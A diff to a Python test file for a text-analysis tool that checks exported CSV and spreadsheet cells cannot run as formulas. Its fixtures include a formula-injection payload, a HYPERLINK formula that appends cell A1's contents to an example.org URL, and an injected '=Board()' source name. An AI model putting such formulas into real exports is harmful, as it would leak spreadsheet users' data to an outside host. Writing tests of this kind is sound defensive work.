@@ -17,6 +17,7 @@ from hedgelens import Collection
 from hedgelens.collection import Columns
 from hedgelens.records import HedgeLensError
 from hedgelens.sheet import read_sheet, write_sheet, writing
+from hedgelens.views.tables import common_to_csv
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"More")'
 TEXT = f"""{FORMULA} perhaps clearly showed it, the mayor said.
@@ -104,6 +105,12 @@ def test_no_cell_of_a_batch_runs(command_line, article, tmp_path):
     assert command_line("report", "--batch", "in", "-o", "raw", "--engine", "rules", "--raw-cells")[0] == 0
     for name in ("articles.csv", "summary.csv"):
         check(*((tmp_path / folder / name).read_bytes().decode("utf-8") for folder in ("out", "raw")))
+
+
+def test_no_name_of_a_source_that_dominates_runs():
+    draft = Draft("The Board says rain.")
+    draft.says(draft.source("=Board()", kind="organisation", groups=["@boards"]), "says", "rain")
+    check(common_to_csv([draft.done()]), common_to_csv([draft.done()], raw=True))
 
 
 def test_the_table_that_a_page_copies_does_not_run(command_line, article, tmp_path):
